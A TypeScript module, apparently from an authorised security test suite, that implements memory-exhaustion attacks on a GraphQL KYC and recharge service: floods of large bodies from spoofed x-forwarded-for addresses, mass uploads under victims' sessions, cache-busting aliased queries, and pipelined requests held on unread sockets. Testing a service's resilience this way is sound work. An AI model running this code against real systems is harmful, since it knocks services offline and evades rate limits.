import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Agent } from 'undici';
import { longestScript } from '../../support/portal-assets.js';
import type { HostName } from '../case.js';
import { times } from './attacker.js';

/*
 * Attacks on memory: what waits, what is kept and what nobody fetches. Each is bounded in number and in time, sends to whom it is told
 * to, and ends early when nobody listens any more.
 */

/** Who is attacked, and what its attackers have: the token of one account, sessions of some that have confirmed their address. */
export interface Victim {
  urls: Readonly<Record<HostName, string>>;
  tokens: Readonly<Record<'uat' | 'production', string>>;
  sessions: readonly string[];
}

/** How often each status was heard; `none`: the connection ended without one. */
export type Heard = Record<string, number>;

const ANSWER_LIMIT_MS = 60_000;
const KIB = 1_024;

const count = (heard: Heard, status: string): void => void (heard[status] = (heard[status] ?? 0) + 1);

/** A crowd: each of them comes from an address of its own. */
const addressOf = (n: number): string => `203.${n % 100}.${(n >> 8) % 256}.${n % 256}`;

interface Posted {
  path: string;
  contentType: string;
  body: Buffer;
  token?: string | undefined;
}

const headOf = (url: URL, { path, contentType, body, token }: Posted, n: number): string =>
  [
    `POST ${path} HTTP/1.1`,
    `host: ${url.host}`,
    `x-forwarded-for: ${addressOf(n)}`,
    `content-type: ${contentType}`,
    `content-length: ${body.length}`,
    ...(token === undefined ? [] : [`authorization: Bearer ${token}`]),
    'connection: close',
    '',
    '',
  ].join('\r\n');

/** One request on a connection of its own; the body is shared by all of them. Resolves with the first line of the answer. */
function post(base: string, posted: Posted, heard: Heard, n: number): Promise<void> {
  const url = new URL(base);
  return new Promise((resolve) => {
    let status = 'none';
    const socket = connect(Number(url.port), url.hostname);
    socket.setTimeout(ANSWER_LIMIT_MS, () => socket.destroy());
    socket.on('error', () => {});
    socket.once('data', (bytes) => {
      status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1'))?.[1] ?? 'none';
      socket.destroy();
    });
    socket.once('close', () => {
      count(heard, status);
      resolve();
    });
    socket.write(headOf(url, posted, n));
    socket.write(posted.body);
  });
}

/** GraphQL of this many bytes. One character outside of Latin-1 makes two bytes of each in the service's memory. */
export function longDocument(bytes: number): Buffer {
  const [before, after] = ['{"query":"{__typename} #€', '"}'];
  const rest = bytes - Buffer.byteLength(before + after);
  return Buffer.from(before + 'x'.repeat(rest) + after);
}

/** Strangers who all send a body at once. */
export async function longBodies(victim: Victim, host: HostName, number: number, bytes: number): Promise<Heard> {
  const heard: Heard = {};
  const posted: Posted = { path: '/graphql', contentType: 'application/json', body: longDocument(bytes) };
  await times(number, number, (n) => post(victim.urls[host], posted, heard, n));
  return heard;
}

const UPLOAD = 'mutation($input: UploadKycDocumentInput!) { uploadKycDocument(input: $input) { documentId } }';
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A file in base64, as GraphQL takes it. Its name has a character outside of Latin-1: two bytes of each in memory. */
export function fileInJson(bytes: number): Buffer {
  const file = Buffer.alloc(bytes, 'x');
  PNG.copy(file);
  const input = {
    kind: 'pan_card',
    fileName: 'pan €.png',
    contentType: 'image/png',
    contentBase64: file.toString('base64'),
  };
  return Buffer.from(JSON.stringify({ query: UPLOAD, variables: { input } }));
}

/** The same as a form. */
export function fileInForm(bytes: number): { body: Buffer; contentType: string } {
  const boundary = `b${randomBytes(8).toString('hex')}`;
  const file = Buffer.alloc(bytes, 'x');
  PNG.copy(file);
  const part = (header: string): string => `--${boundary}\r\ncontent-disposition: form-data; ${header}\r\n\r\n`;
  const body = Buffer.concat([
    Buffer.from(`${part('name="kind"')}pan_card\r\n`),
    Buffer.from(part('name="file"; filename="pan.png"\r\ncontent-type: image/png')),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, contentType: `multipart/form-data; boundary=${boundary}` };
}

/** Uploads of signed-in people, each account in its turn, so many at once; none is begun after the limit. */
export async function uploads(
  victim: Victim,
  form: 'JSON' | 'multipart',
  { number, atOnce, bytes, limitMs }: { number: number; atOnce: number; bytes: number; limitMs: number },
): Promise<Heard> {
  const heard: Heard = {};
  const posted =
    form === 'JSON'
      ? { path: '/graphql', contentType: 'application/json', body: fileInJson(bytes) }
      : { path: '/kyc/documents', ...fileInForm(bytes) };
  const end = performance.now() + limitMs;
  await times(number, atOnce, async (n) => {
    if (performance.now() > end) return;
    const token = victim.sessions[n % victim.sessions.length];
    await post(victim.urls.console, { ...posted, token }, heard, n);
  });
  return heard;
}

/** Makes documents that were never sent before, also not in an earlier run on the same database. */
const run = randomBytes(4).toString('hex');
let made = 0;
export const serial = (): string => `${run}${++made}`;

/** Fourteen times the same question under fourteen names. */
export function aliasedDocument(): string {
  const name = serial();
  return `{${Array.from({ length: 14 }, (_, n) => `n${name}x${n}:me{id name}`).join(' ')}}`;
}

/** Many values in a text that is short to send: each is a node of the document. */
export function documentOfKeys(): string {
  const name = serial();
  const keys = (alias: number): string =>
    Array.from({ length: 50 }, (_, n) => `"${name}${String.fromCharCode(97 + alias)}${n}"`).join(' ');
  return `{${Array.from({ length: 14 }, (_, n) => `k${n}:ordersByKey(kind:RECHARGE,clientRequestIds:[${keys(n)}]){status}`).join(' ')}}`;
}

/** A recharge as people write it by hand: its values stand in the text. */
export function rechargeInText(): string {
  const name = serial();
  return `mutation{recharge(input:{accountNumber:"9876543210",amount:1,operatorSpKey:116,operatorType:MOBILE,clientRequestId:"text-${name}"}){order{status}}}`;
}

/** Documents that are all different, each sent so often, so many of them under way; none is begun after the limit. */
export async function documents(
  victim: Victim,
  host: 'uat' | 'production',
  make: () => string,
  { number, repeated, atOnce, limitMs }: { number: number; repeated: number; atOnce: number; limitMs: number },
): Promise<Heard> {
  const heard: Heard = {};
  const agent = new Agent({ connections: atOnce, headersTimeout: ANSWER_LIMIT_MS, bodyTimeout: ANSWER_LIMIT_MS });
  const end = performance.now() + limitMs;
  const send = async (body: string): Promise<void> => {
    try {
      const answer = await agent.request({
        origin: victim.urls[host],
        path: '/graphql',
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-forwarded-for': addressOf(9),
          authorization: `Bearer ${victim.tokens[host]}`,
        },
        body,
      });
      await answer.body.dump();
      count(heard, String(answer.statusCode));
    } catch {
      count(heard, 'none');
    }
  };
  await times(number, atOnce, async () => {
    const body = JSON.stringify({ query: make() });
    for (let left = repeated; left > 0 && performance.now() < end; left--) await send(body);
  });
  await agent.destroy();
  return heard;
}

/** What anybody may fetch, and what is long. */
const LONG_ANSWERS: Readonly<Record<HostName, readonly string[]>> = (() => {
  const introspection = `/graphql?query=${encodeURIComponent('{__schema{types{name description fields{name description args{name type{name}}}}}}')}`;
  const api = ['/docs/viewer.js', '/openapi.json', '/docs', '/docs/reference', '/schema.graphql'];
  return {
    uat: [...api, longestScript(), introspection],
    production: api,
    console: [longestScript(), '/schema.graphql', introspection],
  };
})();

/** Afterwards the process has what it makes for the first who asks: the guides take it a tenth of a second, once. */
export async function askOnce(urls: Victim['urls'], host: HostName): Promise<void> {
  for (const path of LONG_ANSWERS[host]) await (await fetch(`${urls[host]}${path}`)).arrayBuffer();
}

const PIPELINED = 4;

/** Connections that ask and read nothing. */
export class UnreadResponses {
  readonly #sockets: Socket[] = [];

  /**
   * Every second one asks for the longest text; each asks four times without waiting, and for so many short things behind that.
   * Resolves when all have asked, or were refused.
   */
  async open(
    urls: Victim['urls'],
    host: HostName,
    number: number,
    { behind = 0, addresses = number }: { behind?: number; addresses?: number } = {},
  ): Promise<void> {
    const url = new URL(urls[host]);
    const paths = LONG_ANSWERS[host];
    const request = (n: number): string => {
      const path = n % 2 === 0 ? paths[0]! : paths[(n >> 1) % paths.length]!;
      const head = ` HTTP/1.1\r\nhost: ${url.host}\r\nx-forwarded-for: ${addressOf(n % addresses)}\r\n\r\n`;
      return `GET ${path}${head}`.repeat(PIPELINED) + `GET /x${head}`.repeat(behind);
    };
    await times(
      number,
      number,
      (n) =>
        new Promise<void>((resolve) => {
          const socket = connect(Number(url.port), url.hostname);
          this.#sockets.push(socket);
          // else the first bytes are fetched before anybody wants them
          socket.pause();
          socket.on('error', () => {});
          socket.once('close', () => resolve());
          socket.write(request(n), () => resolve());
        }),
    );
  }

  /** Holds them so long, or until the condition. */
  async hold(limitMs: number, isOver: () => boolean): Promise<void> {
    const end = performance.now() + limitMs;
    while (performance.now() < end && !isOver()) await sleep(100);
  }

  /** Lets go of all of them. `held`: not refused at once; who reads nothing does not hear of an end either. */
  close(): Heard {
    const heard: Heard = {};
    for (const socket of this.#sockets) {
      count(heard, socket.destroyed ? 'refused' : 'held');
      socket.destroy();
    }
    return heard;
  }
}

/** Short requests that fit into what Node reads of a socket at once. */
export const MOST_IN_ONE_READ = 700;
export const LARGEST_BODY_BYTES = 64 * KIB;
/** The largest body that everybody may send. */
export const SMALL_BODY_BYTES = 8 * KIB - 1;
/** In base64 the same is a body of 7 MB. */
export const LARGEST_FILE_BYTES = 5 * KIB * KIB;
